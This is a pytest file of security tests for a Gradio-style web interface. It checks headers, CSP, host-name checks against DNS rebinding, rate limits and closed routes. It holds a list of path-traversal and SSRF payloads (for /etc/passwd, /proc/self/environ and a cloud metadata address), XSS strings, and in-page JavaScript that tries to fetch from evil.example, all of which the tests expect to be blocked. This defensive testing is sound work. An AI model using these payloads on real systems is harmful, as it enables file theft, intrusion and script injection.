"""What a stranger may not do: read files, frame the page, use a foreign host name, reach shut routes, run a script."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake import Fake
from programs import Program, data_uri, serving
from test_ui_page import PAYLOADS

from avl.ui import address, security
from avl.ui.visitors import visitor_of

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def program() -> Iterator[Program]:
    with serving(Fake(pace=0.001, prefill=0)) as one:
        yield one


@pytest.mark.parametrize("path", ["/", "/config", "/healthz", "/metrics", "/gradio_api/info", "/nothing", "/theme.css"])
def test_every_answer_has_the_headers(program: Program, path: str) -> None:
    _, headers, _ = program.request("GET", path)
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"
    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    assert policy["frame-ancestors"].split() == ["'self'", "https://huggingface.co", "https://*.huggingface.co", "https://*.hf.space"]
    assert policy["connect-src"] == "'self' data: blob:"
    assert policy["object-src"] == "'none'"


def test_the_page_alone_may_use_a_camera(program: Program) -> None:
    """For a picture; frames of other origins may not, and nothing here may listen or locate."""
    policy = program.request("GET", "/")[1]["permissions-policy"]
    assert "camera=(self)" in policy
    assert all(f"{feature}=()" in policy for feature in ("microphone", "geolocation", "payment", "usb"))


def test_a_visitors_file_can_do_nothing_when_it_is_opened(program: Program) -> None:
    head = '--b\r\nContent-Disposition: form-data; name="files"; filename="x.html"\r\nContent-Type: text/html\r\n\r\n'
    body = (head + "<script>alert(1)</script>\r\n--b--\r\n").encode()
    _, _, text = program.request("POST", "/gradio_api/upload", body, **{"content-type": "multipart/form-data; boundary=b"})
    status, headers, _ = program.request("GET", f"/gradio_api/file={json.loads(text)[0]}")
    assert status == 200
    assert headers["content-disposition"].startswith("attachment")
    assert "sandbox" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", [*security.SHUT, "/gradio_api/deep_link?session_hash=x", "/gradio_api/proxy=http://127.0.0.1/"])
def test_routes_that_the_page_never_uses_are_shut(program: Program, path: str) -> None:
    for method in ("GET", "POST"):
        status, _, text = program.request(method, path, b"{}" if method == "POST" else None)
        assert (status, json.loads(text)["error"]) == (404, "There is nothing here.")


SECRET = str(ROOT / "pyproject.toml")
TRAVERSALS = [
    "/etc/passwd",
    SECRET,
    "pyproject.toml",
    "./pyproject.toml",
    "../pyproject.toml",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\etc\\passwd",
    "..%5c..%5cetc%5cpasswd",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/dev/zero",
    "file:///etc/passwd",
    "//etc/passwd",
    "/etc//passwd",
    "/etc/passwd%00.png",
    "~/.bashrc",
    "/{upload}/../../../../../etc/passwd",
    "{upload}/../../etc/passwd",
    f"{ROOT}/assets/../pyproject.toml",
    f"{ROOT}/avl/ui/serve.py",
    f"{ROOT}/assets/tiny/config.json",
    "C:\\Windows\\win.ini",
    "http://127.0.0.1:1/x",
    "http://169.254.169.254/latest/meta-data",
]


@pytest.mark.parametrize("path", TRAVERSALS)
@pytest.mark.parametrize("route", ["/gradio_api/file=", "/gradio_api/file/", "/file=", "/static/", "/assets/", "/svelte/"])
def test_no_route_gives_a_file_of_the_server(program: Program, route: str, path: str) -> None:
    from urllib.parse import quote

    path = path.format(upload="tmp/gradio") if "{" in path else path
    status, _, text = program.request("GET", route + quote(path, safe="/%:=~\\{}").replace("\\", "%5C"), seconds=10)
    assert status >= 300, text[:200]
    assert b"root:" not in text
    assert b"[build-system]" not in text


@pytest.mark.parametrize("path", TRAVERSALS)
@pytest.mark.parametrize("shape", ["file data", "path", "url", "more"])
def test_no_picture_is_a_file_of_the_server(program: Program, shape: str, path: str) -> None:
    told = {"path": path, "meta": {"_type": "gradio.FileData"}, "orig_name": "x.png"}
    image: Any = {"file data": told, "path": {"path": path}, "url": {"url": path}, "more": {"url": data_uri()}}[shape]
    data = [image, "What?", [{"policy": "Full"}], 2]
    if shape == "more":
        data += ["race", 1, 0, 1, 0, 1, False, [told]]
    error = program.call(data).error
    assert error
    assert error.endswith(".")
    assert str(ROOT) not in error
    assert "/site-packages/" not in error


@pytest.mark.parametrize(
    ("header", "allowed"),
    [
        ("localhost", True),
        ("127.0.0.1", True),
        ("127.0.0.1:7860", True),
        ("LOCALHOST:1", True),
        ("[::1]:7860", True),
        ("evil.example", False),
        ("127.0.0.1.evil.example", False),
        ("localhost.evil.example:80", False),
        ("evil.example:localhost", False),
        ("", False),
        ("[::2]", False),
        ("localhost@evil.example", False),
    ],
)
def test_a_page_for_this_machine_answers_for_no_other_name(program: Program, header: str, allowed: bool) -> None:
    """Against DNS rebinding: a foreign web page whose name is made to point here."""
    status, _, text = program.request("GET", "/config", Host=header)
    assert status == (200 if allowed else 400), text[:200]
    assert allowed or b"--allowed-hosts" in text


OWN = ("localhost", "127.0.0.1", "[::1]")


@pytest.mark.parametrize(
    ("named", "host", "share", "hosts"),
    [
        (None, None, False, OWN),
        (None, "127.0.0.1", True, (*OWN, "*.gradio.live")),
        (None, "127.8.8.8", False, (*OWN, "127.8.8.8")),
        (None, "::1", False, (*OWN, "[::1]")),
        (None, "0.0.0.0", False, ("*",)),
        (None, "192.168.1.2", False, ("*",)),
        (None, "my.machine", False, ("*",)),
        (["demo.example"], "0.0.0.0", False, ("demo.example", *OWN, "0.0.0.0")),
        (["*.example", "[::2]"], "192.168.1.2", False, ("*.example", "[::2]", *OWN, "192.168.1.2")),
    ],
)
def test_the_names_that_are_answered_for(named: list[str] | None, host: str | None, share: bool, hosts: tuple[str, ...]) -> None:
    assert security.host_names(named, host, share) == hosts


@pytest.mark.parametrize("name", ["", "https://demo.example", "demo.example:80", "a b", "*", "x/y", "*.*.x", "a..b"])
def test_what_is_no_host_name_is_refused(name: str) -> None:
    if name == "*":
        assert security.host_names([name], None)[0] == "*"
        return
    with pytest.raises(ValueError, match="no host name"):
        security.host_names([name], None)


@pytest.mark.parametrize("text", ["x", "10.0.0.0/99", "10.0.0.1, y", "*", "proxy.example"])
def test_what_is_no_proxy_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="no address of a proxy"):
        address.check_proxies(text)


def test_proxies_are_handed_to_uvicorn() -> None:
    assert address.check_proxies(" 10.0.0.0/8 ,127.0.0.1,") == "10.0.0.0/8,127.0.0.1"


def test_a_page_with_named_hosts_starts_and_answers_for_them_alone(here: Any) -> None:
    _, program = here(Fake(pace=0, prefill=0), hosts=["demo.example"])
    told = [program.request("GET", "/healthz", Host=name)[0] for name in ("demo.example", "localhost", "other.example")]
    assert told == [200, 200, 400]


def test_named_hosts_and_what_is_below_them() -> None:
    one = security.AllowedHosts(lambda *_: None, ["demo.example", "*.spaces.example"])  # type: ignore[arg-type]
    assert all(map(one.allows, ["demo.example:80", "Demo.Example", "a.spaces.example"]))
    assert not any(map(one.allows, ["spaces.example", "xdemo.example", "demo.example.evil", "evilspaces.example"]))


def test_a_visitor_is_an_address_or_a_session_of_this_machine() -> None:
    def asked(host: str) -> Any:
        return type("Asked", (), {"client": type("Client", (), {"host": host}), "session_hash": "abc"})

    assert [visitor_of(asked(host)) for host in ("203.0.113.5", "127.0.0.1", "::1", "unknown")] == [
        "203.0.113.5", "session abc", "session abc", "unknown",
    ]  # fmt: skip
    assert visitor_of(None) is None


def test_one_visitor_cannot_take_the_whole_line(here: Any) -> None:
    """24 calls of one address, of which nobody reads an event: two wait, and another visitor is taken."""
    _, program = here(Fake(pace=0.05, prefill=0))
    url = f"http://127.0.0.1:{program.port}/"
    greedy, other = (Program(url, **{"x-forwarded-for": address}) for address in ("203.0.113.5", "203.0.113.6"))
    for _ in range(24):
        assert greedy.post([{"url": data_uri()}, "What?", [{"policy": "Full"}], 40])[0] == 200
    limit = time.monotonic() + 10
    while greedy.metrics().get('avl_runs_total{outcome="refused"}', 0) < 21:
        assert time.monotonic() < limit, greedy.metrics()
        time.sleep(0.1)
    assert other.health()[1]["waiting"] == 2
    assert "your runs are waiting already" in greedy.call([{"url": data_uri()}, "What?"]).error
    assert other.call([{"url": data_uri()}, "What?", [{"policy": "Full"}], 2]).error is None


@pytest.mark.browser
def test_no_script_of_a_visitor_runs(serve: Any, tab: Any, tmp_path: Path) -> None:
    """Hostile text as the question, a file's name, an address, and what the server says back."""
    server = serve("--pace", "0.005", *[part for payload in PAYLOADS for part in ("--text", payload)])
    one = tab(server.url).open("?ex=%3Cscript%3Ealert(1)%3C/script%3E&a=%3Cimg%20src=x%20onerror=alert(1)%3E")
    page = one.page
    fired: list[str] = []
    page.on("dialog", lambda dialog: (fired.append(dialog.message), dialog.dismiss()))
    named = tmp_path / "<img src=x onerror=alert(2)>.png"
    named.write_bytes(b"\x89PNG\r\n\x1a\nnonsense")
    page.click("#avl-more button")
    page.locator("#avl-more input[type=file]").set_input_files([str(named)])
    page.locator("#avl-more-pictures").get_by_text("onerror").first.wait_for()
    page.fill("#avl-question textarea", " ".join(PAYLOADS))
    page.click("#avl-run")
    page.wait_for_selector("[data-id=alert]:not([hidden])")
    assert "not a picture" in one.text("alert")
    # an inserted script tag runs nothing from elsewhere, and nothing can be sent elsewhere
    blocked = page.evaluate(
        """async () => {
            const tries = [() => fetch('https://evil.example/x'), () => new Promise((yes, no) => {
                const script = document.createElement('script');
                script.src = 'https://evil.example/x.js'; script.onload = yes; script.onerror = () => no(new Error('blocked'));
                document.head.append(script);
            })];
            let count = 0;
            for (const one of tries) { try { await one(); } catch { count += 1; } }
            return count;
        }"""
    )
    assert blocked == 2
    assert fired == []
    assert any("Content Security Policy" in error for error in one.errors)
